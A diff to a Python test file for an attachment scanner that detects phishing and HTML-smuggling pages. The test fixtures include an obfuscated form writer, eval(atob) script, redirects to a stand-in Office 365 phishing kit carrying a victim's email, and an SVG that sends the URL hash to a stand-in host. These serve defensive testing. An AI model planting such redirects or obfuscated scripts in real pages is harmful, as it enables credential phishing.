@@ -20,6 +20,17 @@ SMUGGLING_PAGE = (b"<html><body><script>var d=atob('UEsDBA==');var b=new Blob([d
 SCRIPTED_SVG = (b"<?xml version='1.0'?>\n<!-- exported -->\n<svg xmlns='http://www.w3.org/"
                 b"2000/svg'><script>window.location='https://x.example.net/'+location.hash"
                 b"</script></svg>")
+HIDDEN_FORM = (b"<html><head><script>document.write(unescape('%3C%66%6F%72%6D%20%61%63%74"
+               b"%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F'));</script></head></html>")
+EVAL_ATOB = b"<script type='text/javascript'>eval(atob('ZG9jdW1lbnQud3JpdGUoKQ=='))</script>"
+REDIRECT_SCRIPT = (b"<html><body>Loading your document...<script>window.location.href = "
+                   b"'https://kit.example.net/o365/?e=bob@example.com'</script></body></html>")
+REDIRECT_META = (b"<html><head><meta http-equiv='refresh' content='0; URL=https://kit.example"
+                 b".net/'></head></html>")
+RECEIPT = (b"<html><head><meta http-equiv='refresh' content='30'><script>"
+           b"document.getElementById('t').innerHTML = total.toFixed(2);"
+           b"if (location.hash) location.hash = '#top';</script></head>"
+           b"<body><a href='https://shop.example.com/'>Shop</a></body></html>")
 NEWSLETTER = (b"<html><body><h1>News</h1><svg width=10 height=10><circle r=4/></svg>"
               b"<script>console.log('analytics')</script><a href=x>Read more</a>"
               b"</body></html>")
@@ -36,6 +47,11 @@ def findings(name: str, data: bytes) -> list[tuple[str, str]]:
     ("Scan.htm", SMUGGLING_PAGE, "a script that builds a file to download (HTML smuggling)"),
     ("voicemail.svg", SCRIPTED_SVG, "a script in an SVG image"),
     ("voicemail.png", SCRIPTED_SVG, "a script in an SVG image"),
+    ("Remittance.html", HIDDEN_FORM,
+     "a script that writes the page from encoded text (a hidden form)"),
+    ("Fax.htm", EVAL_ATOB, "a script that writes the page from encoded text (a hidden form)"),
+    ("Document.html", REDIRECT_SCRIPT, "a page that sends the reader to a web site at once"),
+    ("Document.shtml", REDIRECT_META, "a page that sends the reader to a web site at once"),
 ])
 def test_pages_that_phish_or_smuggle_are_found_whatever_they_are_called(name, data, detail):
     assert findings(name, data) == [(name, detail)]
@@ -43,6 +59,8 @@ def test_pages_that_phish_or_smuggle_are_found_whatever_they_are_called(name, da
 
 def test_an_ordinary_page_with_pictures_and_scripts_is_not_active_content():
     assert findings("newsletter.html", NEWSLETTER) == []
+    # A receipt that refreshes itself, fills in a total and jumps to an anchor.
+    assert findings("receipt.html", RECEIPT) == []
     assert findings("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>") == []
     # A page's text about passwords is not a password field.
     assert findings("help.html", b"<html><p>Never type your password into a form"
